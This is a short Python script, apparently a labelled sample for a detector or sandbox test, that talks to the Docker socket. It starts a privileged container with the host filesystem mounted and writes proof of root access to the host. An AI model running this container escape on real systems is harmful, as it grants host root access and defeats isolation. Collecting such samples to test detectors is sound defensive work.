# expect: network; talks to /var/run/docker.sock over AF_UNIX to start a container with the host root bind-mounted
import json
import socket

spec = json.dumps({
    "Image": "alpine",
    "Cmd": ["chroot", "/host", "sh", "-c", "id > /host/tmp/pwn"],
    "HostConfig": {"Binds": ["/:/host"], "Privileged": True},
}).encode()

s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect("/var/run/docker.sock")
s.sendall(b"POST /containers/create?name=x HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
          b"Content-Length: " + str(len(spec)).encode() + b"\r\n\r\n" + spec)
print(s.recv(4096))
s.sendall(b"POST /containers/x/start HTTP/1.1\r\nHost: d\r\nContent-Length: 0\r\n\r\n")
print(s.recv(4096))
